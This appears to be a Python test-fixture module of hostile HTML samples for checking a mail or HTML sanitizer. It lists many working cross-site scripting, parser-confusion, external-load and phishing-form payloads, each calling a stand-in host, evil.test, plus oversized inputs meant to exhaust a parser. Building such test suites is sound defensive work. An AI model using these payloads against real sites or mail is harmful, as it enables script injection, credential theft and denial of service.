"""HTML as hostile mail writes it. Each tries to run something, to load something, or to look like the page around it.

Whatever is loaded or run asks `https://evil.test/` for something, or opens a dialogue.
"""

import json

RUN = "fetch('https://evil.test/ran');alert(1)"
JS = f"javascript:{RUN}"

SPECIMENS = (
    # What runs
    f"<script>{RUN}</script>", f"<ScRiPt/x>{RUN}</sCrIpT >", "<script src=https://evil.test/a.js></script>",
    f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\x00>{RUN}</script\x00>",
    f'<img src=x onerror="{RUN}">', f'<img/src=x/onerror="{RUN}">', f'<img src="x` `<p onload={RUN}>"` `>',
    f'<body onload="{RUN}">', f'<p onmouseover="{RUN}" autofocus tabindex=1 onfocus="{RUN}">x</p>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>', f'<video><source onerror="{RUN}"></video>',
    f'<marquee onstart="{RUN}">x</marquee>', f'<style onload="{RUN}"></style>', f'<input autofocus onfocus="{RUN}">',
    f'<a href="{JS}">x</a>', f"<a href='java\tscr\nipt:{RUN}'>x</a>", f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    f'<a href="\x01{JS}">x</a>', '<a href="vbscript:msgbox(1)">x</a>', f'<a href="feed:{JS}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>', f'<img src="{JS}">',
    '<a href="file:///etc/passwd">x</a>', f'<img src="data:image/svg+xml,<svg onload={json.dumps(RUN)}>">',
    '<a href="view-source:https://evil.test/">x</a>', f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="{JS}">', "<frameset><frame src=//evil.test>",
    '<object data="https://evil.test/o"><param name=x></object>', '<embed src="https://evil.test/e">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>', f"<svg><a xlink:href='{JS}'><text>x</text></a>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x><script>{RUN}</script></svg>#x\">",
    f'<math><maction actiontype="statusline" xlink:href="{JS}">x</maction></math>', "<svg><foreignObject><p>x",
    # What is loaded
    '<img srcset="https://evil.test/s 2x">', "<picture><source srcset=https://evil.test/p><img></picture>",
    '<body background="https://evil.test/b">', '<table background="//evil.test/t"><tr><td background=//evil.test/c>x',
    '<p style="background:url(https://evil.test/u)">x</p>', "<p style='background-image:\\75rl(//evil.test/u)'>x</p>",
    '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.test/x)">x</p>',
    '<p style="list-style:url(//evil.test/l);cursor:url(//evil.test/c),auto;content:url(//evil.test/n)">x</p>',
    '<p style="background-color:red;/*;*/color:image-set(\'//evil.test/i\' 1x)">x</p>', "<p style=color:r\\65d>x</p>",
    "<style>@import '//evil.test/i'; p{background:url(//evil.test/s)} @font-face{src:url(//evil.test/f)}</style>",
    '<link rel=stylesheet href="//evil.test/l"><link rel=prefetch href="//evil.test/p">',
    "<bgsound src=//evil.test/b>", '<meta http-equiv=refresh content="0;url=https://evil.test/m">',
    '<base href="https://evil.test/" target=_top>', '<audio src="//evil.test/a" autoplay></audio>',
    '<video poster="//evil.test/v"></video>', '<input type=image src=//evil.test/i>',
    '<img src="http://evil.test/h">', '<img src="ftp://evil.test/f">', "<img src=relative.png>", "<img src='/me/'>",
    '<img lowsrc="//evil.test/l" dynsrc="//evil.test/d">',
    '<a ping="https://evil.test/p" href="https://evil.test/">x</a>',
    # What asks for something, or covers something
    '<form action="https://evil.test/f"><input name=password><button formaction=//evil.test/b>Sign in</button></form>',
    "<textarea><script></textarea>x", "<select><option>x</select>", "<isindex action=//evil.test/i>",
    "<dialog open>x</dialog>", '<p style="position:fixed;top:0;left:0;z-index:9;transform:scale(9);opacity:0">x</p>',
    "<p class=card id=frame>x</p>", '<p style="margin-top:-9999px;margin:1px -5px;width:99999999px;inset:0">x</p>',
    "<a name=top id=location>x</a>",
    # What breaks out
    "<style></style><script>alert(1)</script></style>",
    f"<style><img src='</style><img src=x onerror={RUN}>'></style>",
    f'<title></title><img src=x onerror="{RUN}"></title>',
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\">", f"<plaintext><img src=x onerror={RUN}>", "<template><p>x",
    f"<!--><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<?xml <img src=x onerror={RUN}>?>",
    f"<!DOCTYPE <img src=x onerror={RUN}>", f'<p title="><img src=x onerror={RUN}>">x</p>',
    f"<p title='\"><img src=x onerror={RUN}>'>x</p>", f'<a href="https://evil.test/&quot;onclick=&quot;{RUN}">x</a>',
    f'<img alt="&quot;&gt;&lt;img src=x onerror={RUN}&gt;" src="https://evil.test/q&quot;onerror=&quot;{RUN}">',
    f"<font face='\"><img src=x onerror={RUN}>'>x</font>", "</body></html></iframe><h1>x",
    "</style></div></div></div>x",
    # What a browser reads otherwise the second time
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math><annotation-xml encoding=\"text/html\"><style><img src=\"</style><img src=x onerror={RUN}>\">",
    f"<svg><desc><style><a title=\"</style><img src onerror={RUN}>\">",
    f"<noembed><p title=\"</noembed><img src onerror={RUN}>\">",
    f"<table><td><a href=x><table><td><style><!--</style><img src=x onerror={RUN}>--></table>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"\x1b$B<script>{RUN}</script>\x1b(B", f"\ufeff<script>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
)

_N = 100_000
# What takes a parser minutes or all its memory.
GIANTS = (
    "<div>" * _N, "<b>" * _N, "<table>" * _N, "<p>" * _N, "<table><tr><td>" * _N, "<" * _N, "</div>" * _N,
    "<a ='" * _N, "</a =" * _N, "<!--" * _N, "<a href=" * _N, "&amp;" * _N, "\u00a0" * _N, "<svg>" * _N,
    "<script>" + "</script" * _N, "<b><p>" * _N,
    "<p>" + "".join(f"<font color=#{number:06}>" for number in range(9000)) + "</p>" + "<p>x" * 9000, "x" * 2_000_000,
    "<br " + "a=b " * _N + ">", f"<p style='{'color:red;' * _N}'>", "<td colspan=1000 rowspan=65534>" * 9000,
)
